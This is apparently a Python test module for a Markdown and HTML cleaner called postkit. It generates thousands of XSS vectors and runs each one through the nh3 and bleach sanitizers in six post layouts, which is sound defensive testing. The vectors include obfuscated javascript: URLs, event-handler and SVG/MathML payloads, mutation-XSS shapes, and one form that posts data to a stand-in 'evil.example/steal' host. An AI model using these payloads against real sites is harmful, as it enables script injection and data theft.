"""Generated XSS vectors by family, the six placements a post can hold them in, and the batch that cleans them all.

Written for postkit from the kinds of attack public suites cover (no suite copied): executable URL
schemes under every obfuscation a renderer or browser undoes, in every carrier that takes a URL;
reference definitions and autolinks; kramdown attribute lists, ALDs and extensions; goldmark
attributes; raw HTML event handlers; SVG and MathML; srcdoc; meta refresh; form actions; and
mutation shapes that parse differently the second time. ``VECTORS`` is deterministic.
"""

from __future__ import annotations

import itertools
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache

from postkit import CleanOptions, clean_text, split_post

FRONT_MATTER = '---\ntitle: "XSS vector"\nfrom: https://blog.example/2021/08/post/\n---\n'
PLACEMENTS = ("block", "inline", "div", "markdown", "quote", "list")
SANITIZERS = ("nh3", "bleach")


@dataclass(frozen=True)
class Vector:
    family: str
    text: str


# --- URL schemes and their disguises -------------------------------------------------------------

SCHEMES = {
    "javascript": "javascript:alert(1)",
    "vbscript": "vbscript:msgbox(1)",
    "data-html": "data:text/html,<script>alert(1)</script>",
    "data-html-b64": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data-svg": "data:image/svg+xml,<svg onload=alert(1)>",
    "livescript": "livescript:alert(1)",
    "mocha": "mocha:alert(1)",
}


# One disguise of a URL's scheme each, the kind a renderer's or browser's decoding undoes:
# (scheme, ":", rest) -> the disguised URL.
_DISGUISE: dict[str, Callable[[str, str, str], str]] = {
    "plain": lambda s, c, r: s + c + r,
    "upper": lambda s, c, r: s.upper() + c + r,
    "mixed": lambda s, c, r: "".join(ch.upper() if i % 2 else ch for i, ch in enumerate(s)) + c + r,
    "dec-colon": lambda s, c, r: f"{s}&#58;{r}",
    "padded-colon": lambda s, c, r: f"{s}&#0000058;{r}",
    "hex-colon": lambda s, c, r: f"{s}&#x3A;{r}",
    "named-colon": lambda s, c, r: f"{s}&colon;{r}",
    "dec-letters": lambda s, c, r: "".join(f"&#{ord(ch)};" for ch in s) + c + r,
    "hex-letter": lambda s, c, r: f"&#x{ord(s[0]):x};{s[1:]}{c}{r}",
    "nosemi": lambda s, c, r: f"&#{ord(s[0])}{s[1:]}{c}{r}",
    "tab-entity": lambda s, c, r: f"{s[:2]}&Tab;{s[2:]}{c}{r}",
    "newline-entity": lambda s, c, r: f"{s[:3]}&NewLine;{s[3:]}{c}{r}",
    "tab": lambda s, c, r: f"{s[:4]}\t{s[4:]}{c}{r}",
    "newline": lambda s, c, r: f"{s[:1]}\n{s[1:]}{c}{r}",
    "leading-space": lambda s, c, r: f"  {s}{c}{r}",
    "leading-control": lambda s, c, r: f"\x01\x0c{s}{c}{r}",
    "leading-entity": lambda s, c, r: f"&#32;&#1;{s}{c}{r}",
    "percent": lambda s, c, r: f"{s[:-1]}%{ord(s[-1]):02x}{c}{r}",
    "backslash-colon": lambda s, c, r: f"{s}\\:{r}",
    "double-entity": lambda s, c, r: f"{s}&amp;#58;{r}",
}


def _encode_scheme(url: str, how: str) -> str:
    """One disguise of a URL's scheme (see ``_DISGUISE``)."""
    if how not in _DISGUISE:
        raise ValueError(how)
    scheme, colon, rest = url.partition(":")
    return _DISGUISE[how](scheme, colon, rest)


DISGUISES = tuple(_DISGUISE)


def _attr(url: str) -> str:
    return url.replace('"', "&quot;")


CARRIERS = {
    "md-link": lambda u: f"[click me]({u})",
    "md-link-title": lambda u: f'[click me]({u} "title")',
    "md-link-angle": lambda u: f"[click me](<{u}>)",
    "md-image": lambda u: f"![picture]({u})",
    "md-reference": lambda u: f"[click me][r]\n\n[r]: {u}",
    "md-reference-next-line": lambda u: f"[click me][r]\n\n[r]:\n  {u}",
    "md-reference-image": lambda u: f"![picture][r]\n\n[r]: {u} 'title'",
    "md-autolink": lambda u: f"<{u}>",
    "html-a": lambda u: f'<a href="{_attr(u)}">click me</a>',
    "html-a-unquoted": lambda u: "<a href=" + _attr(u).replace(" ", "&#32;").replace(">", "&gt;") + ">click</a>",
    "html-img": lambda u: f'<img src="{_attr(u)}" alt="picture">',
    "html-iframe": lambda u: f'<iframe src="{_attr(u)}">frame</iframe>',
    "html-form": lambda u: f'<form action="{_attr(u)}"><button>go</button></form>',
    "html-formaction": lambda u: f'<form><button formaction="{_attr(u)}">go</button></form>',
    "html-object": lambda u: f'<object data="{_attr(u)}">object</object>',
    "html-embed": lambda u: f'<embed src="{_attr(u)}">',
    "svg-a": lambda u: f'<svg><a xlink:href="{_attr(u)}"><text x="9" y="9">click</text></a></svg>',
    "math-href": lambda u: f'<math href="{_attr(u)}"><mi>x</mi></math>',
    "html-area": lambda u: f'<map name="m"><area href="{_attr(u)}" alt="area"></map>',
    "meta-refresh": lambda u: f'<meta http-equiv="refresh" content="0;url={_attr(u)}">',
    "base-href": lambda u: f'<base href="{_attr(u)}"><a href="x">relative</a>',
}


def url_vectors() -> Iterator[Vector]:
    # every carrier with every disguise of javascript:, and every scheme in a sample of disguises
    for carrier, disguise in itertools.product(CARRIERS, DISGUISES):
        yield Vector(f"url:{carrier}", CARRIERS[carrier](_encode_scheme(SCHEMES["javascript"], disguise)))
    for carrier, scheme, disguise in itertools.product(
        CARRIERS, [s for s in SCHEMES if s != "javascript"], ("plain", "mixed", "padded-colon", "tab-entity")
    ):
        yield Vector(f"url:{carrier}", CARRIERS[carrier](_encode_scheme(SCHEMES[scheme], disguise)))


# --- reference definitions and links in containers --------------------------------------------------


def reference_vectors() -> Iterator[Vector]:
    urls = [
        "javascript&#0000058;alert(1)",
        "da&Tab;ta:text/html,<script>alert(1)</script>",
        "JAVASCRIPT:alert(1)",
        "<javascript:alert(1)>",
        "java\tscript:alert(1)",
        "java script:alert(1)",
        "&#106;avascript:alert(1)",
        'javascript:alert(1) "t"',
        "vbscript&colon;msgbox(1)",
    ]
    shapes = [
        "[r]: {u}\n\n[use][r]",
        "> [r]: {u}\n>\n> [use][r]",
        "- [r]: {u}\n\n  [use][r]",
        "> - [r]: {u}\n>\n>   [use][r]",
        "1. > [r]: {u}\n\n   > [use][r]",
        "Paragraph line\n[r]: {u}\n\n[use][r]",
        "[use]\n\n   [use]: {u}",
        "![use][R]\n\n[r]:\n{u}",
        "> > > [r]: {u}\n\n[use][r] and [r]",
        "- a\n  - b\n    - [r]: {u}\n\n[use][r]",
        "| a |\n|---|\n| [x]({u}) |",
        "# [x]({u})",
        "Heading\n===\n[x]({u})",
        "[x](\n{u})",
        "> [x](\n> {u})",
        "**[x]({u})**",
        "[![i](https://ok.example/a.png)]({u})",
    ]
    for shape, url in itertools.product(shapes, urls):
        yield Vector("reference", shape.replace("{u}", url))


# --- kramdown and goldmark syntax that writes attributes -----------------------------------------------


def kramdown_vectors() -> Iterator[Vector]:
    attributes = [
        'onfocus="alert(1)" autofocus tabindex="1"',
        "onmouseover=alert(1)",
        "onclick='alert(1)'",
        'style="x:expression(alert(1))" onload="alert(1)"',
        'href="javascript:alert(1)"',
        'srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"',
        '.cls #id onerror="alert(1)"',
        '.c title="t" onclick="alert(1)"',
        'title="x"onmouseover="alert(1)"',
        'target="_blank" href="javascript:alert(1)"',
        '#id style="background:url(javascript:alert(1))"',
        'title="a\\" onclick=\\"alert(1)"',
        "rel='x' formaction='javascript:alert(1)'",
    ]
    spans = [
        "*x*",
        "**x**",
        "`x`",
        "[x](https://ok.example/)",
        "![i](https://ok.example/a.png)",
        "<https://ok.example>",
    ]
    for attribute in attributes:
        for block in ("# Heading", "Paragraph text", "> quote", "- item", "| a |\n|---|\n| b |", "```\ncode\n```"):
            yield Vector("kramdown:block-ial", f"{block}\n{{: {attribute}}}")
            yield Vector("kramdown:block-ial-before", f"{{: {attribute}}}\n{block}")
        for span in spans:
            yield Vector("kramdown:span-ial", f"Text {span}{{: {attribute}}} more")
        yield Vector("kramdown:ald", f"{{:evil: {attribute}}}\n\nParagraph\n{{: evil}}")
        yield Vector("kramdown:ald", f"{{:evil: {attribute}}}\n\n*x*{{:evil}}")
        yield Vector("goldmark:attribute", f"# Heading {{{attribute}}}")
        yield Vector("goldmark:attribute", f"## Heading {{#id {attribute}}}")
        yield Vector("goldmark:attribute", f"Paragraph\n{{{attribute}}}")
    payloads = [
        "<img src=x onerror=alert(1)>",
        "<script>alert(1)</script>",
        "<svg onload=alert(1)>",
        '<a href="javascript:alert(1)">x</a>',
        "&lt;img src=x onerror=alert(1)&gt;",
    ]
    for payload in payloads:
        yield Vector("kramdown:nomarkdown", f"{{::nomarkdown}}{payload}{{:/nomarkdown}}")
        yield Vector("kramdown:nomarkdown", f"{{::nomarkdown}}\n{payload}\n{{:/}}")
        yield Vector("kramdown:nomarkdown", f'Text {{::nomarkdown type="html"}}{payload}{{:/}} more')
        yield Vector("kramdown:comment", f"{{::comment}}\n{payload}\n{{:/comment}}")
        yield Vector(
            "kramdown:options", f'{{::options parse_block_html="true" /}}\n\n<div markdown="1">{payload}</div>'
        )
        yield Vector("kramdown:options", f'{{::options parse_span_html="true" html_to_native="false" /}}{payload}')
    for option in (
        'auto_ids="false"',
        'entity_output="symbolic"',
        'math_engine="nil"',
        'syntax_highlighter="nil"',
        "typographic_symbols=\"{hellip: '<img src=x onerror=alert(1)>'}\"",
    ):
        yield Vector("kramdown:options", f"{{::options {option} /}}\n\nText... and $$x<y$$")
    for math in (
        "$$<img src=x onerror=alert(1)>$$",
        "$$\n</script><script>alert(1)</script>\n$$",
        "Text $$x$${: onclick=alert(1)}",
    ):
        yield Vector("kramdown:math", math)
    yield Vector("kramdown:abbreviation", "*[HTML]: <img src=x onerror=alert(1)>\n\nHTML here")
    yield Vector("kramdown:footnote", "Text[^1]\n\n[^1]: [x](javascript:alert(1))")
    yield Vector("kramdown:definition", "term\n: [x](javascript:alert(1)){: onclick=alert(1)}")
    yield Vector("kramdown:escaped", "\\\\{: onclick=alert(1)}")
    yield Vector("kramdown:entity", "&#123;: onclick=alert(1)}")


# --- raw HTML: handlers, SVG and MathML, srcdoc, refresh, forms, mutation ------------------------------

HANDLER_TAGS = {
    "img": '<img src="x" {h}>',
    "img-noquote": "<img src=x {h}>",
    "img-slash": "<img/src=x/{h}>",
    "img-glued": '<img src="a.png" alt=""{h} />',
    "svg": "<svg {h}>",
    "svg-image": '<svg><image href="x" {h}/></svg>',
    "body": "<body {h}>",
    "details": "<details open {h}><summary>s</summary></details>",
    "input": "<input autofocus {h}>",
    "select": "<select autofocus {h}><option>x</option></select>",
    "textarea": "<textarea autofocus {h}>t</textarea>",
    "video": '<video src="x" {h}></video>',
    "audio": '<audio src="x" {h}></audio>',
    "video-source": '<video><source src="x" {h}></video>',
    "iframe": "<iframe {h}></iframe>",
    "object": '<object data="x" {h}></object>',
    "marquee": "<marquee {h}>m</marquee>",
    "div": "<div {h}>text</div>",
    "a": '<a href="https://ok.example/" {h}>link</a>',
    "span-newline": "<span\n{h}>text</span>",
    "style": "<style {h}></style>",
    "link": '<link rel="stylesheet" href="x" {h}>',
    "custom": "<x-elem tabindex=1 autofocus {h}>c</x-elem>",
    "math": "<math {h}><mi>x</mi></math>",
    "b-upper": "<B {h}>b</B>",
}
HANDLERS = [
    "onerror",
    "onload",
    "onfocus",
    "onmouseover",
    "onclick",
    "ontoggle",
    "onpointerenter",
    "onbegin",
    "OnErRoR",
    "onanimationstart",
]
HANDLER_VALUES = ["alert(1)", '"alert(1)"', "'alert(1)'", "&#97;lert(1)", "`alert(1)`"]


def handler_vectors() -> Iterator[Vector]:
    for (tag, shape), handler in itertools.product(HANDLER_TAGS.items(), HANDLERS):
        value = HANDLER_VALUES[(len(tag) + len(handler)) % len(HANDLER_VALUES)]
        yield Vector(f"handler:{tag}", shape.replace("{h}", f"{handler}={value}"))


SVG_MATH = [
    "<svg><script>alert(1)</script></svg>",
    '<svg><script href="data:,alert(1)"/></svg>',
    '<svg><script xlink:href="data:,alert(1)"></script></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><set attributeName="href" to="javascript:alert(1)"/><a><text y=9>x</text></a></svg>',
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=9>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='1' onerror='alert(1)'/></svg>#x\"/></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
    "<svg><title><img src=x onerror=alert(1)></title></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg><handler type="text/javascript">alert(1)</handler></svg>',
    "<svg><discard onbegin=alert(1)>",
    '<svg><feImage href="javascript:alert(1)"/></svg>',
    "<svg><iframe src=javascript:alert(1)></svg>",
    '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="&#x6A;avascript:alert(1)"><rect width=9 '
    "height=9 /></a></svg>",
    '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
    "<math><mtext><svg><script>alert(1)</script></svg></mtext></math>",
    "<math><style><img src=x onerror=alert(1)></style></math>",
    "<mglyph/onerror=alert(1)>",
    "<malignmark><img src=x onerror=alert(1)></malignmark>",
]

DOCUMENT = [
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "<iframe srcdoc='<img src=x onerror=alert(1)>'>",
    '<iframe srcdoc="&#60;svg onload=alert(1)&#62;" sandbox="allow-scripts"></iframe>',
    '<div srcdoc="<script>alert(1)</script>">x</div>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="Refresh" content="0; URL=data:text/html,<script>alert(1)</script>">',
    "<meta http-equiv=refresh content='0;javascript:alert(1)'>",
    '<meta charset="x" http-equiv="refresh" content="1">',
    '<form action="javascript:alert(1)"><input type="submit"></form>',
    '<form><input type="image" formaction="javascript:alert(1)" src="x"></form>',
    '<form id="f"></form><button form="f" formaction="javascript:alert(1)">x</button>',
    '<form action="https://evil.example/steal" method="post"><input name="p"></form>',
    '<isindex type="image" src="x" onerror="alert(1)">',
    '<isindex action="javascript:alert(1)" type="submit">',
    '<base href="javascript:alert(1)//">',
    '<link rel="import" href="data:text/html,<script>alert(1)</script>">',
    '<object type="text/html" data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed type="image/svg+xml" src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<applet code="x" codebase="javascript:alert(1)"></applet>',
    '<frameset onload="alert(1)"><frame src="javascript:alert(1)"></frameset>',
    '<portal src="javascript:alert(1)"></portal>',
    '<script src="data:,alert(1)"></script>',
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</script>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<style>@import "javascript:alert(1)";</style>',
    '<a href="https://ok.example/" target="_top" ping="javascript:alert(1)">x</a>',
    '<img srcset="javascript:alert(1) 1x, x 2x" src="x">',
    '<video poster="javascript:alert(1)"></video>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<blockquote cite="javascript:alert(1)">q</blockquote>',
    '<a href="https://ok.example/" data-src="javascript:alert(1)">x</a>',
    '<img data-src="javascript:alert(1)" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">',
    '<noscript><img src="javascript:alert(1)"></noscript>',
]

MUTATION = [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<listing>&lt;img onerror=alert(1) src=1&gt;</listing>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    '<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>',
    "<template><img src=x onerror=alert(1)></template>",
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
    '<style><img title="</style><img src=x onerror=alert(1)>"></style>',
    '<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>',
    "<!--><img src=x onerror=alert(1)>-->",
    "<!---><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<?xml ><img src=x onerror=alert(1)>?>",
    "<!DOCTYPE html><img src=x onerror=alert(1)>",
    '<a href="https://ok.example/"><table><a href="javascript:alert(1)">x</a></table></a>',
    "<p><svg><p><style><img src=x onerror=alert(1)></style></p></svg></p>",
    "<select><template><style><img src=x onerror=alert(1)></style></template></select>",
    "<table><svg><style><img src=x onerror=alert(1)></style></svg></table>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<img title="`<script>alert(1)</script>`" src=x>',
    '<a title="a&quot; onmouseover=&quot;alert(1)">x</a>',
    '<img src=x alt=""onerror=alert(1)>',
    '<img src="x"/onerror=alert(1)>',
    "<im\x00g src=x onerror=alert(1)>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "\\<img src=x onerror=alert(1)>",
    "`<img src=x onerror=alert(1)>`<img src=x onerror=alert(1)>`",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=x onerror=alert(1)//",
    '<img src=x onerror="alert(1)"\n',
    "<div><script>alert(1)</script",
    '<a href="javascript:alert(1)"',
    "[<img src=x onerror=alert(1)>](https://ok.example/)",
    '[x](https://ok.example/"onmouseover="alert(1))',
    '![x"onerror="alert(1)](x)',
    "[x](https://ok.example/ 'a\" onmouseover=\"alert(1)')",
    '<https://ok.example/"onmouseover="alert(1)>',
    '<me@ok.example"onmouseover="alert(1)>',
    '[x](#"onclick="alert(1))',
    "```\n</code></pre><img src=x onerror=alert(1)>\n```",
    "    </code></pre><img src=x onerror=alert(1)>",
    "<pre>\n\n</pre><img src=x onerror=alert(1)>",
    "<div>\n\n<img src=x onerror=alert(1)>\n\n</div>",
    "  <div>\n\n    <img src=x onerror=alert(1)>\n\n  </div>",
]


def raw_html_vectors() -> Iterator[Vector]:
    yield from (Vector("svg-mathml", v) for v in SVG_MATH)
    yield from (Vector("document", v) for v in DOCUMENT)
    yield from (Vector("mutation", v) for v in MUTATION)
    # each raw payload also split by the kinds of markup a cleaner removes, which can join its pieces again
    for payload in ("<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "<svg onload=alert(1)>"):
        for cut in range(2, 8):
            yield Vector("joined", f"{payload[:cut]}<span></span>{payload[cut:]}")
            yield Vector("joined", f"{payload[:cut]}<!-- x -->{payload[cut:]}")
            yield Vector("joined", f"{payload[:cut]}<script>x</script>{payload[cut:]}")


@cache
def vectors() -> tuple[Vector, ...]:
    """Every generated vector once, in a fixed order."""
    found: dict[str, Vector] = {}
    for family in (url_vectors, reference_vectors, kramdown_vectors, handler_vectors, raw_html_vectors):
        for vector in family():
            found.setdefault(vector.text, vector)
    return tuple(found.values())


def place(vector: str, placement: str) -> str:
    """A post holding the vector one way: as an HTML block, inline, in a div, in Markdown, a quote or a list item."""
    if placement == "block":
        body = f"Intro.\n\n{vector}\n\nOutro.\n"
    elif placement == "inline":
        body = f"Text <span>{vector}</span> more\n"
    elif placement == "div":
        body = f"<div>Some text {vector} more text</div>\n"
    elif placement == "markdown":
        body = f"Some *text* {vector} more text.\n"
    elif placement == "quote":
        body = "> Quoted:\n>\n" + "\n".join(f"> {line}" for line in vector.split("\n")) + "\n"
    elif placement == "list":
        lines = vector.split("\n")
        body = "- first\n- " + "\n".join([lines[0], *(f"  {line}" if line else "" for line in lines[1:])]) + "\n"
    else:
        raise ValueError(placement)
    return FRONT_MATTER + "\n" + body


@dataclass(frozen=True)
class Cleaned:
    vector: Vector
    placement: str
    sanitizer: str
    body: str  # the cleaned post's body: what a site renders


def clean_all(sanitizers: tuple[str, ...] = SANITIZERS) -> list[Cleaned]:
    """Every vector in every placement through ``clean_text`` with each sanitizer."""
    out = []
    for sanitizer in sanitizers:
        options = CleanOptions(sanitizer=sanitizer)
        for vector in vectors():
            for placement in PLACEMENTS:
                body = split_post(clean_text(place(vector.text, placement), options).text).body
                out.append(Cleaned(vector, placement, sanitizer, body))
    return out
